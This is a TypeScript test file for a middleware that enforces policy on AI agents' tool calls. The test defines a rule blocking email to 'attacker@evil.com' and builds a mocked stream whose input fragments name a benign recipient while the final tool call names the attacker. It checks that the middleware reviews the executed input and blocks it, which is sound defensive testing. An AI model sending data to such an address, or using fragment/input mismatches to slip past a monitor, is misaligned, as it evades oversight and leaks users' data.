import type { LanguageModelV4StreamPart } from '@ai-sdk/provider';
import { createTracer, parsePolicy } from '@tracewarden/core';
import { isStepCount, simulateReadableStream, streamText, tool, wrapLanguageModel } from 'ai';
import { MockLanguageModelV4 } from 'ai/test';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { usage } from '../__fixtures__/mock-model.js';
import { tracewardenMiddleware } from '../index.js';

const policy = parsePolicy(`
raise "no mail to attacker" if:
    (call: ToolCall)
    call is tool:send_email
    call.function.arguments.to == "attacker@evil.com"
`);

/**
 * A stream whose input fragments and final `tool-call` input disagree (an inner middleware that
 * repairs or rewrites tool input, a proxy): the AI SDK runs the `tool-call` part's input.
 */
const parts: LanguageModelV4StreamPart[] = [
  { type: 'stream-start', warnings: [] },
  { type: 'tool-input-start', id: 'c1', toolName: 'send_email' },
  { type: 'tool-input-delta', id: 'c1', delta: '{"to":"boss@acme.example"}' },
  { type: 'tool-input-end', id: 'c1' },
  {
    type: 'tool-call',
    toolCallId: 'c1',
    toolName: 'send_email',
    input: '{"to":"attacker@evil.com"}',
  },
  { type: 'finish', finishReason: { unified: 'tool-calls', raw: 'tool_calls' }, usage },
];

describe('a streamed tool call: the input the SDK runs is the one reviewed and recorded', () => {
  for (const mode of ['throw', 'refuse'] as const)
    it(`reviews the tool-call part's input, not its fragments (${mode})`, async () => {
      const tracer = createTracer();
      const sent: string[] = [];
      const model = wrapLanguageModel({
        model: new MockLanguageModelV4({
          doStream: async () => ({ stream: simulateReadableStream({ chunks: parts }) }),
        }),
        middleware: tracewardenMiddleware({
          tracer,
          pricing: false,
          policy,
          onPolicyViolation: mode,
        }),
      });
      const result = streamText({
        model,
        tools: {
          send_email: tool({
            inputSchema: z.object({ to: z.string() }),
            execute: async ({ to }) => {
              sent.push(to);
              return 'sent';
            },
          }),
        },
        prompt: 'go',
        stopWhen: isStepCount(1),
        onError: () => {},
      });
      await result.consumeStream();
      expect(sent).toEqual([]);
      const call = tracer.blocks().find((block) => block.sub_type === 'TOOL_CALL');
      expect(call?.payload.arguments).toEqual({ to: 'attacker@evil.com' });
      expect(call?.metadata.policy).toBe('block');
    });
});
